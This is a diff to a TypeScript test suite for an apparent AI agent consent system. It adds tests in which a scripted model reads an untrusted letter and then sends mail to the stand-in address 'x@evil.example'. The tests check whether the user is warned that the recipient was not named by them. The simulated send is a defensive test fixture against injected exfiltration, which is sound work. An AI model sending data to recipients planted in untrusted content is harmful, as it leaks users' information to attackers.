@@ -2,7 +2,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { app } from './fixture/app.ts';
-import { yes } from './fixture/consent.ts';
+import { no, yes } from './fixture/consent.ts';
 import { call, plan, type Script } from './fixture/model.ts';
 import { type Scene, type Stage, stageFor } from './fixture/stage.ts';
 
@@ -88,6 +88,40 @@ test('a private query is in the journal, and marked there', async (t) => {
     ],
   );
   assert.equal(stage.of('tool-call.executed').length, 1);
+});
+
+const READER = app(
+  'post',
+  { read: 'a letter', send: 'sent' },
+  { irreversible: ['send'], untrusted: ['read'] },
+);
+const STRANGER = '`x@evil.example` in `to` is not from your words';
+
+for (const [how, isPrivate] of [
+  ['in private', true],
+  ['in the open', false],
+] as const) {
+  test(`whom the user named ${how} is ${isPrivate ? 'a stranger' : 'known'} to the next query`, async (t) => {
+    const stage = stageFor(t, { apps: [READER], script: {}, user: no() });
+    const first = { planner: [plan([{ app: 'post', uses: ['send'] }])], post: ['noted'] };
+    const text = 'what is x@evil.example?';
+    await (isPrivate ? privately(stage, text, first) : stage.ask(text, first));
+    await stage.resume();
+    await stage.ask('answer the letter', {
+      planner: [plan([{ app: 'post', uses: ['read', 'send'] }])],
+      post: [[call('read')], [call('send', { to: 'x@evil.example' })], 'done'],
+    });
+    assert.deepEqual(stage.user.asked.at(-1)?.warnings, isPrivate ? [STRANGER] : []);
+  });
+}
+
+test('whom the user names in private is known while that query runs', async (t) => {
+  const stage = stageFor(t, { apps: [READER], script: {}, user: no() });
+  await privately(stage, 'answer the letter, to x@evil.example', {
+    planner: [plan([{ app: 'post', uses: ['read', 'send'] }])],
+    post: [[call('read')], [call('send', { to: 'x@evil.example' })], 'done'],
+  });
+  assert.deepEqual(stage.user.asked.at(-1)?.warnings, []);
 });
 
 test('what cannot be undone is asked in private as well', async (t) => {
